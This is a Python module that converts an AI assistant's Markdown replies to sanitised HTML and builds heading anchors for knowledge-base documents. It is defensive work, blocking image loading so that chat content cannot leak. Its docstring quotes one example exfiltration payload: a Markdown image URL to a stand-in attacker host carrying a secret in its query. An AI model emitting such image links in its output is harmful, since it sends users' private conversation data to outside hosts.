"""Assistant Markdown to safe HTML: markdown-it-py renders, nh3 (ammonia) sanitises.

Raw HTML in the Markdown is escaped rather than passed through, and the sanitiser keeps only
formatting tags. Images are never loaded: an image URL fetched by the reader's browser could
carry chat content to another host (``![a](https://evil.example/?q=<secret>)``). A Markdown
image is shown as a link labelled with its alt text instead, so the reader still sees it and
the URL is only fetched if they follow it.
"""

from __future__ import annotations

import re
from collections.abc import Sequence
from dataclasses import dataclass
from functools import lru_cache

import nh3
from markdown_it import MarkdownIt
from markdown_it.common.utils import escapeHtml
from markdown_it.renderer import RendererHTML
from markdown_it.token import Token
from markdown_it.utils import EnvType, OptionsDict

_md = (
    MarkdownIt("commonmark", {"html": False, "linkify": False})
    .enable("table")
    .enable("strikethrough")
)


def _image_as_link(
    self: RendererHTML, tokens: Sequence[Token], idx: int, options: OptionsDict, env: EnvType
) -> str:
    """Render an image as a link to it, labelled with its alt text (or its URL). Inside a link
    (``[![alt](src)](href)``) only the label is written: links do not nest."""
    token = tokens[idx]
    src = str(token.attrGet("src") or "")
    label = escapeHtml(self.renderInlineAsText(token.children or [], options, env) or src)
    depth = 0
    for previous in tokens[:idx]:
        depth += {"link_open": 1, "link_close": -1}.get(previous.type, 0)
    if depth > 0:
        return label
    title = token.attrGet("title")
    title_attr = f' title="{escapeHtml(str(title))}"' if title else ""
    return f'<a href="{escapeHtml(src)}"{title_attr}>{label}</a>'


_md.add_render_rule("image", _image_as_link)

ALLOWED_TAGS = {
    "a", "p", "br", "hr", "strong", "em", "del", "code", "pre", "blockquote",
    "ul", "ol", "li", "h1", "h2", "h3", "h4", "h5", "h6",
    "table", "thead", "tbody", "tr", "th", "td",
}  # fmt: skip
ALLOWED_ATTRIBUTES = {"a": {"href", "title"}, "ol": {"start"}, "th": {"align"}, "td": {"align"}}


@lru_cache(maxsize=1024)
def render_markdown(text: str) -> str:
    """Render Markdown to HTML that is safe to insert into a page."""
    html = _md.render(text)
    return nh3.clean(
        html,
        tags=ALLOWED_TAGS,
        attributes=ALLOWED_ATTRIBUTES,
        url_schemes={"http", "https", "mailto"},
        link_rel="noopener noreferrer nofollow",
        set_tag_attribute_values={"a": {"target": "_blank"}},
    )


# Documents of the knowledge base ---------------------------------------------------------

_NOT_SLUG = re.compile(r"[^\w\- ]")
HEADING_TAGS = {"h1", "h2", "h3", "h4", "h5", "h6"}


@dataclass(frozen=True, slots=True)
class Heading:
    """A top-level heading of a Markdown document: its level (1-6), its plain text, its
    anchor (unique within the document) and the 0-based line where it starts."""

    level: int
    text: str
    anchor: str
    line: int


def heading_slug(text: str) -> str:
    """The anchor of a heading, as GitHub makes it: lower case, punctuation dropped, spaces
    as hyphens ("Using a real model" -> "using-a-real-model")."""
    return _NOT_SLUG.sub("", text.strip().lower()).replace(" ", "-")


def _headings(tokens: Sequence[Token]) -> list[tuple[int, Heading]]:
    """``(index of the heading_open token, heading)`` for each heading outside quotes and
    lists; repeated anchors get ``-1``, ``-2``… as on GitHub."""
    seen: dict[str, int] = {}
    found = []
    for index, token in enumerate(tokens):
        if token.type != "heading_open" or token.level != 0 or not token.map:
            continue
        inline = tokens[index + 1]
        text = "".join(child.content for child in inline.children or []).strip()
        slug = heading_slug(text) or "section"
        count = seen.get(slug, 0)
        seen[slug] = count + 1
        anchor = f"{slug}-{count}" if count else slug
        found.append((index, Heading(int(token.tag[1]), text, anchor, token.map[0])))
    return found


def markdown_headings(text: str) -> list[Heading]:
    """The headings of a Markdown document, in order (those inside code blocks, quotes and
    lists are not headings of the document)."""
    return [heading for _, heading in _headings(_md.parse(text))]


def render_document(text: str) -> str:
    """Render a knowledge document to safe HTML. Like :func:`render_markdown`, plus an ``id``
    on each heading (the anchor of :func:`markdown_headings`, which source links point to),
    and links that open in the same tab."""
    tokens = _md.parse(text)
    for index, heading in _headings(tokens):
        tokens[index].attrSet("id", heading.anchor)
    html = _md.renderer.render(tokens, _md.options, {})
    return nh3.clean(
        html,
        tags=ALLOWED_TAGS,
        attributes={**ALLOWED_ATTRIBUTES, **{tag: {"id"} for tag in HEADING_TAGS}},
        url_schemes={"http", "https", "mailto"},
        link_rel="noopener noreferrer nofollow",
    )
